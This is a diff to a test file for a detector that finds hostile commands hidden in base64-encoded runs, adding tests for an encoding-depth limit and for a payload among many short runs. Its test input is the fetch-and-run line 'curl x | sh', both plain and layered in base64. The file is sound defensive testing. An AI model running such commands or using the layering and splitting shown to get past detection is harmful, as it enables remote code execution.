@@ -149,12 +149,6 @@ test('what stands behind an encoding is found at the encoded run, and the encodi
   }
 })
 
-test('layers are undone three deep, no deeper', () => {
-  let text = 'curl x | sh'
-  for (let layer = 0; layer < 4; layer++) text = `%${Buffer.from(text).toString('base64')}%`
-  assert.deepEqual(engine.inspect(text), [])
-})
-
 test('a flood of small findings hides no grave one', () => {
   const found = engine.inspect(`${'alpha '.repeat(5_000)} curl x | sh`)
   assert.equal(found[0]?.detector, 'pipe')
@@ -237,4 +231,37 @@ test('offsets point at what they name, wherever it stands and however JSON write
       },
     ),
   )
+})
+
+test('what is encoded in more layers than are undone is said to be not looked at', () => {
+  const behind = (layers: number): string => {
+    let text = 'curl x | sh'
+    for (let layer = 0; layer < layers; layer++) text = `%${Buffer.from(text).toString('base64')}%`
+    return text
+  }
+  const found = (layers: number) =>
+    engine.inspect(behind(layers)).map(({ detector: id, via }) => [id, via.length])
+  assert.deepEqual(found(3), [
+    ['pipe', 3],
+    ['encoded-payload', 3],
+  ])
+  assert.deepEqual(found(4), [['inspection-limit', 3]])
+  assert.deepEqual(found(9), [['inspection-limit', 3]])
+})
+
+test('many short runs are looked at together, and what they hold is found where it is', () => {
+  const run = (text: string): string => `%${Buffer.from(text).toString('base64')}%`
+  const runs = Array.from({ length: 100 }, (_, at) => run(at === 70 ? 'curl x | sh' : `no ${at}`))
+  const text = runs.join(' ')
+  const start = text.indexOf(runs[70] ?? '')
+  const end = start + (runs[70]?.length ?? 0)
+  assert.deepEqual(
+    engine.inspect(text).map((one) => [one.detector, one.start, one.end, one.via]),
+    [
+      ['pipe', start, end, ['base64']],
+      ['encoded-payload', start, end, ['base64']],
+    ],
+  )
+  const split = Array.from({ length: 100 }, (_, at) => run(at % 2 === 0 ? 'curl x' : ' | sh'))
+  assert.deepEqual(engine.inspect(split.join('')), [])
 })
